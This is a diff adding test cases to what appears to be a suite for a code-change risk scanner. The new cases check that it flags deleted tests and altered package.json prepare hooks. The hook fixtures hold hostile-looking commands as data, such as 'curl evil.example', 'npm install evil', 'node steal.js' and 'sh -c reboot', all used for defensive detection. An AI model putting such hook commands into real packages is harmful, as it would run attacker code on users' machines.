@@ -158,4 +158,25 @@ describe("where rules are lenient, what only looks alike is still told:", () => 
   it.each(ROWS)("%s", async (_, rule, sides) => {
     expect((await pointsOf(rule, sides)).length).toBeGreaterThan(0);
   });
+
+  it.each([
+    ["code of that name is left", GOES(file("src/check.js", SOURCE, null, { "lib/check.js": SOURCE }))],
+    ["code of that name comes", GOES(file("src/check.js", SOURCE, null), file("lib/check.ts", null, SOURCE))],
+    ["no code goes", GOES(file("docs/check.md", "a\n", null), file("src/a.js", SOURCE, null))],
+  ])("a test that goes where %s", async (_, sides) => {
+    expect(Math.max(...(await pointsOf("test-deletion", sides)))).toBe(4);
+  });
+
+  it.each([
+    ["node build.js", "node steal.js"],
+    ["npx husky", "npx evil-pkg"],
+    ["sh a.sh", "sh -c reboot"],
+    ["npm run build", "npm install evil"],
+    ["husky install", "husky install\ncurl evil.example"],
+    ["husky", "curl evil.example"],
+  ])("a hook that ran `%s` and runs another program: `%s`", async (before, after) => {
+    const scripts = (prepare: string, more = {}) => JSON.stringify({ scripts: { prepare, ...more } }, null, 1);
+    const sides = file("package.json", scripts(before), scripts(after, { laundered: after }));
+    expect(await pointsOf("install-script", sides)).toEqual([5]);
+  });
 });
